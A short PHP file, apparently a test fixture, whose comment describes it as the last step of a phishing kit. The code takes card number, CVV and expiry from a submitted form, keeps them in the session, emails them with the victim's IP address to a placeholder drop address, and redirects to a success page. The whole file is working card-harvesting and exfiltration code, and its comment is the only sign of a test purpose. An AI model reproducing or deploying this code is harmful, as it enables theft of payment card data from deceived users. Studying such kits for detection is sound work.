<?php
// a phishing kit's last step: card fields kept in the session by the pages before, mailed
// to the operator (written for the tests, never run)
session_start();
$_SESSION['card'] = $_POST['cardnumber'];
$_SESSION['cvv'] = $_POST['cvv'];
$_SESSION['exp'] = $_POST['exp'];
$body = "Card: {$_SESSION['card']} | CVV: {$_SESSION['cvv']} | EXP: {$_SESSION['exp']}";
$send = "results.box@example.invalid";
@mail($send, "CC | " . $_SERVER['REMOTE_ADDR'], $body);
header("Location: ../success.php");
